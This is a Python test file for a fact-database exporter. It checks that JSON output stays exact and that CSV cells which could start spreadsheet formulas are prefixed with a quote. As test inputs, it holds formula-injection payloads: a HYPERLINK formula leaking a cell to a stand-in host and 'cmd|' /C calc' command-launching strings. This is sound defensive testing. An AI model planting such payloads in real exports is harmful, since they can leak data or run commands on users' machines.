"""Exports: exact records, and CSV cells that a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import dataclasses
import io
import json

import pytest
from inmemory import (
    OPEN_WEIGHTS,
    REGISTRY,
    RELEASED,
    base,
    cite,
    model,
    primary_document,
    registry,
    source,
    two_sources,
)

from modelfacts import schemas
from modelfacts.exports import (
    CLAIM_FIELDS,
    DATA_FILES,
    claim_records,
    claims_csv,
    claims_json,
    csv_cell,
    render_exports,
)


def test_claim_record_is_flat_with_rating_and_url():
    records = claim_records(base(), "https://facts.example/")
    assert [r["id"] for r in records] == ["released", "open-weights"]
    assert records[1] == {
        "model": "widget-1",
        "model_name": "Widget-1",
        "developer": "Acme Labs",
        "id": "open-weights",
        "statement": "Widget-1's weights are openly available.",
        "topic": "weights",
        "date": None,
        "confidence": "very low",
        "status": "disputed",
        "status_note": None,
        "rationale": "One outlet says open, another says closed.",
        "notes": None,
        "evidence": "limited",
        "agreement": "low",
        "ceiling": "very low",
        "url": "https://facts.example/models/widget-1/#open-weights",
        "developers": ["acme-labs"],
        "date_basis": "source",
        "unchecked_context": None,
        "citations": [
            {
                "source": "acme-news",
                "stance": "supports",
                "quote": "The weights of Widget-1 are available under the Apache 2.0 licence",
                "as_of": "2025-03-04",
            },
            {
                "source": "rival-news",
                "stance": "contradicts",
                "quote": "Widget-1 weights remain closed and API-only",
                "as_of": "2025-03-04",
            },
        ],
    }
    assert claim_records(base())[0]["url"] == "models/widget-1/#released"


def test_claims_json_is_one_claim_per_line_with_exact_text():
    records = claim_records(base())
    text = claims_json(records)
    lines = text.splitlines()
    assert lines[0] == "[" and lines[-1] == "]" and len(lines) == 2 + len(records)
    assert [json.loads(line.rstrip(",")) for line in lines[1:-1]] == records
    assert json.loads(text) == records


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a = b - c", "a = b - c"),
        ("'already quoted", "'already quoted"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_that_could_start_a_formula_gets_a_quote_in_front(value, cell):
    assert csv_cell(value) == cell


HOSTILE_STATEMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_QUOTE = "+cmd|' /C calc'!A0"
HOSTILE_RATIONALE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CONTEXT = "=1+1 <b>said on stage</b>"


def hostile_base():
    claim = dataclasses.replace(
        OPEN_WEIGHTS,
        statement=HOSTILE_STATEMENT,
        rationale=HOSTILE_RATIONALE,
        notes="-1",
        unchecked_context=HOSTILE_CONTEXT,
        citations=(cite("rival-news", "contradicts", HOSTILE_QUOTE), *OPEN_WEIGHTS.citations),
    )
    evil = registry(("evil", "\tAcme"))
    return base(model(claims=(RELEASED, claim), name="=Widget", developers=("evil",)), publishers=evil)


def test_hostile_text_is_neutralised_in_csv_and_exact_in_json():
    records = claim_records(hostile_base())
    rows = list(csv.DictReader(io.StringIO(claims_csv(records))))
    assert list(rows[0]) == [*CLAIM_FIELDS, "citations"]
    row = rows[1]
    assert row["statement"] == "'" + HOSTILE_STATEMENT
    assert row["rationale"] == "'" + HOSTILE_RATIONALE
    assert row["notes"] == "'-1"
    assert row["unchecked_context"] == "'" + HOSTILE_CONTEXT and row["date_basis"] == "source"
    assert (row["model_name"], row["developer"]) == ("'=Widget", "'\tAcme")
    assert row["status_note"] == "" and row["date"] == ""
    assert row["citations"].startswith("[")  # JSON: no cell of it starts a formula, the quote stays exact
    assert json.loads(row["citations"])[0]["quote"] == HOSTILE_QUOTE
    data = json.loads(claims_json(records))
    assert data[1]["statement"] == HOSTILE_STATEMENT and data[1]["rationale"] == HOSTILE_RATIONALE
    assert data[1]["citations"][0]["quote"] == HOSTILE_QUOTE and data[1]["model_name"] == "=Widget"
    assert data[1]["unchecked_context"] == HOSTILE_CONTEXT and data[0]["unchecked_context"] is None


def test_a_date_the_curators_supplied_is_exported_as_such():
    supplied = dataclasses.replace(RELEASED, date_basis="curator")
    records = claim_records(base(model(claims=(supplied, OPEN_WEIGHTS))))
    assert [(r["date"], r["date_basis"]) for r in records] == [("2025-03-03", "curator"), (None, "source")]
    rows = list(csv.DictReader(io.StringIO(claims_csv(records))))
    assert [(r["date"], r["date_basis"]) for r in rows] == [("2025-03-03", "curator"), ("", "source")]


def test_plain_text_is_written_as_it_is():
    records = claim_records(base())
    rows = list(csv.DictReader(io.StringIO(claims_csv(records))))
    assert [{k: v or None for k, v in row.items() if k != "citations"} for row in rows] == [
        {k: ", ".join(v) if isinstance(v, list) else v for k, v in rec.items() if k != "citations"} for rec in records
    ]


@pytest.mark.parametrize(
    "developers, names, ids",
    [
        (("acme-labs",), "Acme Labs", "acme-labs"),
        (("acme-labs", "rival-times"), "Acme Labs, Rival Times", "acme-labs, rival-times"),
        ((), "", ""),
    ],
)
def test_developer_is_the_names_joined_and_developers_the_ids(developers, names, ids):
    """`developer` keeps its meaning (the display name, now names joined); `developers` adds the ids."""
    records = claim_records(base(model(developers=developers)))
    assert (records[0]["developer"], records[0]["developers"]) == (names, list(developers))
    row = next(csv.DictReader(io.StringIO(claims_csv(records))))
    assert (row["developer"], row["developers"]) == (names, ids)


def test_sources_json_names_the_publisher_and_gives_its_id():
    sources = json.loads(render_exports(base())["data/sources.json"])
    assert [(s["publisher"], s["publisher_id"], s["syndicated_from"]) for s in sources] == [
        ("Publisher of acme-news", "publisher-of-acme-news", None),
        ("Rival Times", "rival-times", None),
    ]
    assert REGISTRY.by_id["rival-times"].name == "Rival Times"


def test_a_citation_is_as_of_its_sources_evidence_date():
    """An article's evidence is as of its publication, a copied document's as of its commit date; an undated
    or unknown source gives null."""
    undated = source("rival-news", published=None, date_note="Undated.")
    card = primary_document("acme-news", commit_date="2024-11-30T23:30:00-08:00")
    records = claim_records(base(sources=[card, undated]))
    assert [[c["as_of"] for c in r["citations"]] for r in records] == [["2024-11-30"], ["2024-11-30", None]]
    lost = base(model(claims=(dataclasses.replace(RELEASED, citations=(cite("gone", "supports", "x y"),)),)))
    assert claim_records(lost)[0]["citations"][0]["as_of"] is None
    row = next(csv.DictReader(io.StringIO(claims_csv(records))))
    assert json.loads(row["citations"])[0]["as_of"] == "2024-11-30"


def test_sources_json_carries_document_type_provenance_and_evidence_date():
    card = primary_document("acme-news", about=("Widget-1",), unused=None)
    sources = json.loads(render_exports(base(sources=[card, two_sources()[1]]))["data/sources.json"])
    assert {k: sources[0][k] for k in ("kind", "document", "published", "as_of", "about", "unused")} == {
        "kind": "primary",
        "document": "model-card",
        "published": "2025-03-04",
        "as_of": "2025-03-04",
        "about": ["Widget-1"],
        "unused": None,
    }
    assert sources[0]["provenance"] == {
        "repository": "acme/widget",
        "path": "docs/MODEL_CARD.md",
        "branch": "main",
        "commit": "a" * 40,
        "commit_date": "2025-03-04T10:00:00+01:00",
        "last_change_commit": "b" * 40,
        "note": None,
    }
    assert sources[0]["url"] == f"https://github.com/acme/widget/blob/{'a' * 40}/docs/MODEL_CARD.md"
    assert (sources[1]["document"], sources[1]["provenance"], sources[1]["as_of"]) == ("article", None, "2025-03-04")


def test_no_csv_cell_starts_a_formula():
    text = claims_csv(claim_records(hostile_base()))
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_render_exports_writes_every_listed_data_file():
    files = render_exports(base(), "https://facts.example/")
    assert sorted(files) == sorted(path for path, _ in DATA_FILES)
    assert files["data/schemas/model.schema.json"] == schemas.render("model.schema.json").encode("utf-8")
    sources = json.loads(files["data/sources.json"])
    assert [s["id"] for s in sources] == ["acme-news", "rival-news"]
    assert sources[0]["authors"] == ["A. Writer"] and "text" not in sources[0]
